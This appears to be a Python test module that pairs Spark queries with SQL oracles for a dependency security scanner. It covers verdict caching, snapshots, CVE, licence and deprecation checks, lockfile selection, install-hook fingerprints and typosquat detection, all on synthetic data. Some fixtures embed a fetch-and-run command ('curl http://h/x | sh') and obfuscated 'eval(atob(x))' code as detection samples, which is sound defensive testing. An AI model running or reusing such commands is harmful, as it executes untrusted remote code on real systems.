"""Queries over state that outlives a run: kept verdicts and saved snapshots."""

from __future__ import annotations

import uuid

from pyspark.sql import functions as F

from ..operators import analysis as AN
from ..operators import feeds as FE
from ..operators import fleet as FL
from ..operators import gate as G
from ..operators import heuristics as H
from ..operators import snapshots as SN
from ..shared import shared_folder
from ..sources import lockfiles as LO
from ..sources import sinks as SI
from . import derived as D
from .rule_queries import pick, q, sql_pick

DAY = 24 * 3600


def gate_third_run(spark, d):
    """Three runs of the gate within 35 days: the third scans what is new, what failed before, and what has expired."""
    part = D.table(spark, d, "part")
    every = part.selectExpr(
        "p_partkey", f"{D._ECO.format('p_partkey')} as ecosystem", "concat('pkg-', p_partkey) as name", "if(p_partkey % 17 = 0, null, concat('1.', p_size, '.0')) as version",
        "if(p_partkey % 34 = 0, 'unreachable', null) as unresolved", "if(p_partkey % 3 = 0, 'lockfile', 'named') as kind", "p_size % 2 = 0 as private",
    )
    advisories = part.where("p_partkey % 5 = 0").selectExpr(f"{D._ECO.format('p_partkey')} as ecosystem", "concat('pkg-', p_partkey) as name", "concat('1.', p_size, '.0') as version", "cast(p_size % 4 as int) as severity")
    known = every.selectExpr("ecosystem", "name", "version", "if(p_partkey % 13 = 0, null, cast(p_partkey % 4 as int)) as verdict", "if(p_partkey % 13 = 0, 'fetch failed', null) as failed")
    cache = G.verdict_cache(spark, f"{shared_folder(spark)}/verdicts-{uuid.uuid4().hex}")

    def run(rows, day):
        return G.judge(rows, advisories, cache, lambda missing: missing.join(known, ["ecosystem", "name", "version"]), day * DAY, f"day{day}", tag="t")

    run(every.where("p_partkey % 2 = 0"), 0)
    run(every.where("p_partkey % 7 < 4"), 10)
    return run(every, 35).select("p_partkey", F.coalesce("verdict", F.lit(-1)).cast("long").alias("verdict"), "unchecked", "cached", "action")


def snapshot_chain(spark, d):
    """Three states of the parts' packages: each next snapshot scans only versions that the one before does not know."""
    part = D.table(spark, d, "part").withColumn("o", F.col("p_partkey"))
    live = lambda k: part.where(f"(p_partkey + {k}) % 5 <> 0").selectExpr(
        "o", f"{D._ECO.format('p_partkey')} as ecosystem", "concat('pkg-', p_partkey) as name", f"concat('1.', if(p_size % 3 < {k}, {k}, 0), '.', p_size % 4) as version")
    enrich = lambda rows: rows.selectExpr("ecosystem", "name", "version", "concat('f-', version) as fingerprint", "if(length(name) % 2 = 0, array('A'), cast(array() as array<string>)) as advisories")
    path, columns = f"{shared_folder(spark)}/snapshots-{uuid.uuid4().hex}", ["fingerprint", "advisories"]
    empty = live(0).limit(0).selectExpr("*", "cast(null as string) as fingerprint", "cast(null as array<string>) as advisories")
    for k in (0, 1, 2):
        before = SN.load_latest(spark, path)
        now = SN.maintain(empty if before is None else before, live(k), enrich, "o", columns)
        SN.save(now, path, "parts", f"2024-01-0{k + 1}T00:00:00Z")
    headers = SN.saved_headers(spark, path).orderBy("created_at").collect()  # three rows
    states = [spark.read.parquet(f"{h.folder}/rows") for h in headers]
    out = None
    for k, (a, b) in enumerate(((0, 1), (1, 2), (0, 2))):
        diff = SN.diff(states[a], states[b], "o").join(states[b].select("ecosystem", "name", "scanned", "fingerprint"), ["ecosystem", "name"], "left")
        rows = diff.select(F.lit(k).cast("long").alias("step"), "name", "kind", "old_version", "new_version", F.coalesce("scanned", F.lit(False)).alias("scanned"), "fingerprint")
        out = rows if out is None else out.unionByName(rows)
    return out


def fleet_run(spark, d):
    """Every document is a project with scripts, pinned dependencies and the checks it asks for; one row tells how it went."""
    docs = D.table(spark, d, "documents")
    task = lambda e: F.concat(F.lit("t"), F.expr(e))
    tasks = docs.select(
        task("doc_id").alias("task"), F.lit("npm").alias("ecosystem"),
        F.expr("element_at(array(array('ast', 'cve'), array('cve', 'deprecated'), array('license', 'unused-deps'), array('heuristics', 'cve', 'license', 'deprecated', 'unused-deps'), cast(array() as array<string>)), cast(doc_id % 5 + 1 as int))").alias("checks"),
        F.expr("if(doc_id % 5 = 2, array('GPL-3.0'), array('mit', 'isc'))").alias("deny_licenses"),
    )
    words = F.regexp_replace(F.coalesce("text", F.lit("")), r"[^A-Za-z\s]", "")
    code = F.expr("element_at(array('eval(1)', '1', 'true', 'eval(atob(x))'), cast(doc_id % 4 + 1 as int))")
    body = F.concat(F.lit("/* "), words, F.lit(" */\nrequire('d"), F.expr("doc_id % 20"), F.lit("'); // require('d1')\n"), code)
    files = docs.select(task("doc_id").alias("task"), F.expr("if(doc_id % 4 = 2, 'router_init.js', 'x.js')").alias("path"), body.alias("body"))
    lines = D.table(spark, d, "lineitem")
    deps = lines.select(task("l_orderkey").alias("task"), F.lit("npm").alias("ecosystem"), F.expr("concat('p', l_partkey)").alias("name"), F.expr("if(l_partkey % 6 = 0, '', concat(l_partkey % 5, '.0.0'))").alias("version"))
    declared = lines.select(task("l_orderkey").alias("task"), F.expr("concat('d', l_suppkey % 20)").alias("dep_name"))
    part = D.table(spark, d, "part")
    known = lambda where, *more: part.where(where).selectExpr("'npm' as ecosystem", "concat('p', p_partkey) as name", "concat(p_partkey % 5, '.0.0') as version", *more)
    advisories = known("p_partkey % 3 <> 0", "concat('A', p_partkey) as id", "cast(p_size % 4 as int) as severity").unionByName(known("p_partkey % 9 = 1", "'B' as id", "1 as severity"))
    health, licenses = known("true", "p_partkey % 7 = 0 as deprecated"), known("true", "element_at(array('MIT', 'GPL-3.0', 'ISC'), cast(p_partkey % 3 + 1 as int)) as license")
    rules = D.allow_rules(spark).limit(0)
    got = FL.run(tasks, files, deps, advisories, health, licenses, declared, rules)
    return got.select("task", "verdict", *[F.col(c).cast("long").alias(c) for c in ("score", "cve_findings", "deprecated_findings", "license_findings")], F.array_join("unused", ",").alias("unused"), "failed")


LOCKS = ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock", "poetry.lock", "requirements.txt", "uv.lock", "Pipfile.lock", "pom.xml", "gradle.lockfile", "mix.lock", "manifest.toml", "Cargo.lock", "notes.txt", "x.opam.locked"]


def chosen_lockfiles(spark, d):
    """Of the lockfiles that a folder holds, the one that each ecosystem is read from."""
    files = D.table(spark, d, "orders").select(F.concat(F.lit("p"), F.expr("o_orderkey % 2003"), F.lit("/"), pick(LOCKS, F.col("o_custkey"))).alias("path"), F.lit("").alias("text")).distinct()
    return LO.first_of_ecosystem(files).select("path")


def documents_written(spark, d):
    """Bills of materials written one folder a project, written again for half of them, and read back."""
    path = f"{shared_folder(spark)}/documents-{uuid.uuid4().hex}"
    rows = D.table(spark, d, "lineitem").groupBy((F.col("l_orderkey") % 50).alias("project")).agg(F.sum("l_linenumber").alias("n"), F.max("l_returnflag").alias("c"))
    told = lambda k: F.to_json(F.struct("n", "c", F.lit(k).alias("version")), {"pretty": "true"})
    SI.write_documents(rows.select("project", told(1).alias("document")), path, "project")
    SI.write_documents(rows.where("project % 2 = 0").select("project", told(2).alias("document")), path, "project")
    back = SI.read_documents(spark, path, "project").select("project", F.from_json("document", "n long, c string, version long").alias("r"))
    return back.select(F.col("project").cast("long").alias("project"), "r.n", "r.c", "r.version")


# ecosystem, a registry's document with % for the part's number, and the licence it states (None: none)
LICENSE_DOCUMENTS = [
    ("npm", '{"license":"MIT-%"}', "MIT-%"), ("npm", '{"license":{"type":"ISC"}}', "ISC"), ("npm", '{"info":{"license":"MIT"}}', None), ("pypi", '{"info":{"license":"BSD %"}}', "BSD %"), ("pypi", '{"info":{"license":""}}', None),
    ("pypi", '{"info":{"license":null}}', None), ("pypi", '{"license":"MIT"}', None), ("crates", '{"version":{"license":"MIT OR Apache-2.0"}}', "MIT OR Apache-2.0"), ("crates", '{"license":"MIT"}', None), ("crates", '{"version":{"license":7}}', None),
    ("rubygems", '{"licenses":["MIT","","Ruby-%"]}', "MIT OR Ruby-%"), ("rubygems", '{"licenses":[]}', None), ("rubygems", '{"licenses":[3,"BSD"]}', "BSD"), ("rubygems", '{"licenses":"MIT"}', None), ("rubygems", "broken", None),
    ("nuget", '{"catalogEntry":{"licenseExpression":"MIT","licenseUrl":"u"}}', "MIT"), ("nuget", '{"catalogEntry":{"licenseExpression":"","licenseUrl":"https://l/%"}}', "https://l/%"), ("nuget", '{"licenseUrl":"u"}', None), ("go", '{"license":"MIT"}', None),
]


def registry_licenses(spark, d):
    """Licences in the documents of five registries, each where that registry states it; the same fields elsewhere count for nothing."""
    k = F.col("p_partkey")
    rows = D.table(spark, d, "part").select("p_partkey", pick([x[0] for x in LICENSE_DOCUMENTS], k).alias("ecosystem"), F.replace(pick([x[1] for x in LICENSE_DOCUMENTS], k), F.lit("%"), F.col("p_size").cast("string")).alias("doc"))
    return rows.select("p_partkey", "ecosystem", FE.registry_license(F.col("doc"), F.col("ecosystem")).alias("license"))


def hook_fingerprints(spark, d):
    """Fingerprints of packages with hooks and Lua build commands around whole documents: hashes of hooks, and what is suspicious."""
    docs = D.table(spark, d, "documents")
    words = F.regexp_replace(F.regexp_replace(F.coalesce("text", F.lit("")), r"[^A-Za-z\n]", " "), "\n", "\n-- ")
    code = F.expr("element_at(array('s = { build = \"make\" }', 's = { build = \"curl http://h/x | sh\" }', '-- build = \"curl http://h/x | sh\"', 't.build = \"curl http://h/x | sh\"', 's = \"build = curl http://h/x | sh\"'), cast(doc_id % 5 + 1 as int))")
    key = [F.lit("npm").alias("ecosystem"), F.concat(F.lit("p"), "doc_id").alias("name"), F.lit("1").alias("version")]
    files = docs.select(*key, F.lit("init.lua").alias("path"), F.concat(F.lit("-- "), words, F.lit("\n"), code).alias("body"))
    hooks = docs.where("doc_id % 3 <> 0").select(*key, F.lit("postinstall").alias("phase"), F.concat(F.lit("node build.js "), F.coalesce("text", F.lit(""))).alias("body"))
    hooks = hooks.unionByName(docs.where("doc_id % 3 = 2").select(*key, F.lit("preinstall").alias("phase"), F.lit("true").alias("body")))
    got = AN.fingerprints(files, hooks)
    return got.select("name", F.col("n_hooks").cast("long").alias("n_hooks"), F.try_element_at("hooks", F.lit("postinstall")).alias("post"), F.try_element_at("hooks", F.lit("preinstall")).alias("pre"), F.array_contains("capabilities", "install-hook-exec").alias("runs"),
        (F.array_contains("capabilities", "install-hook-suspicious") & (F.col("n_hooks") == 0)).alias("suspicious"))


TOP_ECOSYSTEMS = ["npm", "pypi", "crates", "cran", "hackage", "cpan"]


def typosquats_indexed(spark, d):
    """Names near those of six top lists, read from files into a stored index of which one list is then replaced."""
    part = D.table(spark, d, "part")
    word = F.lower(F.split_part("p_name", F.lit(" "), F.lit(1)))
    folder = f"{shared_folder(spark)}/tops-{uuid.uuid4().hex}"
    for k, eco in enumerate(TOP_ECOSYSTEMS):
        rows = part.where(f"p_partkey % 6 = {k} and p_partkey % 4 = 0").select(F.explode(F.array(F.concat(F.lit("# "), word), F.concat(word, F.lit(f"-{eco}")), F.substring(word, 1, 2))).alias("value")).distinct()
        rows.coalesce(1).write.text(f"{folder}/{eco}.txt")
    tops = spark.createDataFrame([], "ecosystem string, name string")
    for eco in TOP_ECOSYSTEMS:  # Spark writes a folder a list, a list as published is a file
        tops = tops.unionByName(spark.read.text(f"{folder}/{eco}.txt").where("value <> '' and not startswith(value, '#')").select(F.lit(eco).alias("ecosystem"), F.col("value").alias("name")))
    path = f"{folder}-index"
    H.write_index(tops.unionByName(spark.createDataFrame([("npm", "gone-tomorrow")], "ecosystem string, name string")), path)
    H.write_index(tops, path)  # npm alone is written again
    names = part.select(pick([*TOP_ECOSYSTEMS, "go"], F.col("p_partkey")).alias("ecosystem"), F.explode(F.array(
        F.concat(word, F.lit("-"), pick([*TOP_ECOSYSTEMS, "go"], F.col("p_partkey"))), F.concat(F.lit("@s/"), F.regexp_replace(word, "^(.)(.)", "$2$1"), F.lit("-"), pick([*TOP_ECOSYSTEMS, "go"], F.col("p_partkey"))),
        F.substring(word, 1, 1), F.substring(word, 2, 3), F.concat(word, F.lit("x-y")))).alias("name"))
    return H.near_names(names.unionByName(spark.createDataFrame([("npm", "gone-tomorow")], "ecosystem string, name string")), H.read_index(spark, path))


_GATE = """WITH r AS (SELECT p_partkey AS k, p_size, p_partkey % 17 <> 0 AS resolved, p_partkey % 3 <> 0 AS named, p_partkey % 13 = 0 AS fails, p_size % 2 = 0 AS private,
  CASE WHEN p_partkey % 5 = 0 THEN CASE WHEN p_size % 4 >= 3 THEN 3 ELSE p_size % 4 END ELSE 0 END AS adv FROM part),
s AS (SELECT *, named AND resolved AND NOT fails AND p_partkey_even = 0 AND k % 7 < 4 AS cached, CASE WHEN NOT resolved THEN CASE WHEN k % 34 = 0 THEN 'unreachable' ELSE 'not-found' END WHEN named AND fails THEN 'fetch failed' END AS unchecked
  FROM (SELECT *, CASE WHEN k % 2 = 0 THEN 1 ELSE 0 END AS p_partkey_even FROM r)),
v AS (SELECT *, CASE WHEN unchecked IS NULL THEN CAST(greatest(CASE WHEN named THEN k % 4 ELSE 0 END, adv) AS BIGINT) END AS verdict FROM s)
SELECT k AS p_partkey, coalesce(verdict, -1) AS verdict, unchecked, cached, CASE WHEN unchecked = 'fetch failed' AND private THEN 'warn-unchecked' WHEN unchecked IS NOT NULL THEN 'block-unchecked' WHEN verdict >= 3 THEN 'block' ELSE 'proceed' END AS action FROM v"""

_CHAIN = """WITH k AS (SELECT unnest([0, 1, 2]) AS k), l AS (SELECT k, p_partkey, 'pkg-' || p_partkey AS name, '1.' || CASE WHEN p_size % 3 < k THEN k ELSE 0 END || '.' || (p_size % 4) AS version FROM part, k WHERE (p_partkey + k) % 5 <> 0),
s AS (SELECT a.*, b.version IS NULL AS scanned FROM l a LEFT JOIN l b ON b.k = a.k - 1 AND b.name = a.name AND b.version = a.version),
p AS (SELECT * FROM (VALUES (0, 0, 1), (1, 1, 2), (2, 0, 2)) t(step, a, b)),
n AS (SELECT DISTINCT step, a, b, name FROM p JOIN l ON l.k IN (p.a, p.b)),
j AS (SELECT n.step, n.name, o.version AS old_version, w.version AS new_version, coalesce(w.scanned, false) AS scanned FROM n LEFT JOIN s o ON o.k = n.a AND o.name = n.name LEFT JOIN s w ON w.k = n.b AND w.name = n.name)
SELECT CAST(step AS BIGINT) AS step, name, CASE WHEN old_version IS NULL THEN 'added' WHEN new_version IS NULL THEN 'removed' ELSE 'upgraded' END AS kind, old_version, new_version, scanned, 'f-' || new_version AS fingerprint
FROM j WHERE old_version IS DISTINCT FROM new_version"""

_FLEET = """WITH t AS (SELECT doc_id, 't' || doc_id AS task, doc_id % 5 AS k, doc_id % 4 AS f FROM documents),
d AS (SELECT DISTINCT t.doc_id, l_partkey AS p FROM t JOIN lineitem ON l_orderkey = doc_id WHERE l_partkey % 6 <> 0),
a AS (SELECT p_partkey AS p, CAST(p_size % 4 AS INT) AS severity FROM part WHERE p_partkey % 3 <> 0 UNION ALL SELECT p_partkey, 1 FROM part WHERE p_partkey % 9 = 1),
c AS (SELECT doc_id, count(*) AS n, max(severity) AS worst FROM d JOIN a USING (p) GROUP BY 1), h AS (SELECT doc_id, count(*) AS n FROM d WHERE p % 7 = 0 GROUP BY 1),
m AS (SELECT doc_id, count(*) FILTER (WHERE p % 3 = 1) AS gpl, count(*) FILTER (WHERE p % 3 <> 1) AS other FROM d GROUP BY 1),
u AS (SELECT doc_id, string_agg(dep, ',' ORDER BY dep) AS unused FROM (SELECT DISTINCT doc_id, 'd' || (l_suppkey % 20) AS dep FROM t JOIN lineitem ON l_orderkey = doc_id WHERE l_suppkey % 20 <> doc_id % 20) GROUP BY 1),
r AS (SELECT task, CASE WHEN k IN (0, 3) THEN [15, 0, 100, 87][f + 1] ELSE 0 END AS score, k IN (0, 3) AS scanned, CASE WHEN k IN (0, 1, 3) THEN coalesce(c.n, 0) ELSE 0 END AS cve, CASE WHEN k IN (0, 1, 3) THEN coalesce(worst, 0) ELSE 0 END AS worst,
  CASE WHEN k IN (1, 3) THEN coalesce(h.n, 0) ELSE 0 END AS old, CASE k WHEN 2 THEN coalesce(gpl, 0) WHEN 3 THEN coalesce(other, 0) ELSE 0 END AS bad, CASE WHEN k IN (2, 3) THEN coalesce(unused, '') ELSE '' END AS unused
  FROM t LEFT JOIN c USING (doc_id) LEFT JOIN h USING (doc_id) LEFT JOIN m USING (doc_id) LEFT JOIN u USING (doc_id))
SELECT task, CASE WHEN scanned THEN CASE WHEN score >= 100 THEN 'block' WHEN score >= 61 THEN 'prompt' WHEN score >= 21 THEN 'review' ELSE 'safe' END END AS verdict, CAST(score AS BIGINT) AS score, cve AS cve_findings, old AS deprecated_findings,
  bad AS license_findings, unused, score >= 100 OR worst >= 3 OR old > 0 OR bad > 0 AS failed FROM r"""

#: The order within each ecosystem, stated apart from the library's.
_LOCKS = f"""WITH f AS (SELECT DISTINCT 'p' || (o_orderkey % 2003) AS folder, {sql_pick(LOCKS, 'o_custkey')} AS base FROM orders),
o AS (SELECT * FROM (VALUES ('pnpm-lock.yaml', 'npm', 1), ('yarn.lock', 'npm', 2), ('bun.lock', 'npm', 3), ('package-lock.json', 'npm', 4), ('poetry.lock', 'pypi', 1), ('uv.lock', 'pypi', 2), ('Pipfile.lock', 'pypi', 3), ('requirements.txt', 'pypi', 4),
  ('gradle.lockfile', 'maven', 1), ('pom.xml', 'maven', 2), ('manifest.toml', 'hex', 1), ('mix.lock', 'hex', 2), ('Cargo.lock', 'crates', 1), ('x.opam.locked', 'opam', 1)) t(base, eco, rank))
SELECT folder || '/' || base AS path FROM f JOIN o USING (base) QUALIFY row_number() OVER (PARTITION BY folder, eco ORDER BY rank) = 1"""

_WRITTEN = """SELECT CAST(l_orderkey % 50 AS BIGINT) AS project, CAST(sum(l_linenumber) AS BIGINT) AS n, max(l_returnflag) AS c, CAST(CASE WHEN l_orderkey % 50 % 2 = 0 THEN 2 ELSE 1 END AS BIGINT) AS version FROM lineitem GROUP BY 1, 4"""

_LICENSES = f"""SELECT p_partkey, ecosystem, replace(license, '%', CAST(p_size AS VARCHAR)) AS license FROM part
JOIN (VALUES {", ".join(f"({k}, {q(e)}, {'NULL' if x is None else q(x)})" for k, (e, _, x) in enumerate(LICENSE_DOCUMENTS))}) t(k, ecosystem, license) ON p_partkey % {len(LICENSE_DOCUMENTS)} = k"""

_HOOKS = """SELECT 'p' || doc_id AS name, CAST(doc_id % 3 AS BIGINT) AS n_hooks, CASE WHEN doc_id % 3 <> 0 THEN sha256('node build.js ' || coalesce(text, '')) END AS post, CASE WHEN doc_id % 3 = 2 THEN sha256('true') END AS pre,
  doc_id % 3 <> 0 AS runs, doc_id % 3 = 0 AND doc_id % 5 = 1 AS suspicious FROM documents"""

_NEAR = f"""WITH w AS (SELECT p_partkey AS k, lower(split_part(p_name, ' ', 1)) AS w, {sql_pick([*TOP_ECOSYSTEMS, "go"], 'p_partkey')} AS eco FROM part),
t AS (SELECT DISTINCT {sql_pick(TOP_ECOSYSTEMS, 'k')} AS ecosystem, unnest([w || '-' || {sql_pick(TOP_ECOSYSTEMS, 'k')}, substr(w, 1, 2)]) AS near FROM w WHERE k % 4 = 0),
n AS (SELECT DISTINCT eco AS ecosystem, unnest([w || '-' || eco, '@s/' || regexp_replace(w, '^(.)(.)', '\\2\\1') || '-' || eco, substr(w, 1, 1), substr(w, 2, 3), w || 'x-y']) AS name FROM w UNION SELECT 'npm', 'gone-tomorow'),
b AS (SELECT *, regexp_replace(name, '^@[^/]*/', '') AS bare FROM n WHERE name <> '')
SELECT DISTINCT b.ecosystem, name, near FROM b JOIN t ON b.ecosystem = t.ecosystem AND levenshtein(bare, near) <= 2 WHERE (b.ecosystem, bare) NOT IN (SELECT (ecosystem, near) FROM t)"""

QUERIES = {f.__name__: f for f in (gate_third_run, snapshot_chain, fleet_run, chosen_lockfiles, documents_written, registry_licenses, hook_fingerprints, typosquats_indexed)}
ORACLES = {"gate_third_run": _GATE, "snapshot_chain": _CHAIN, "fleet_run": _FLEET, "chosen_lockfiles": _LOCKS, "documents_written": _WRITTEN, "registry_licenses": _LICENSES, "hook_fingerprints": _HOOKS, "typosquats_indexed": _NEAR}
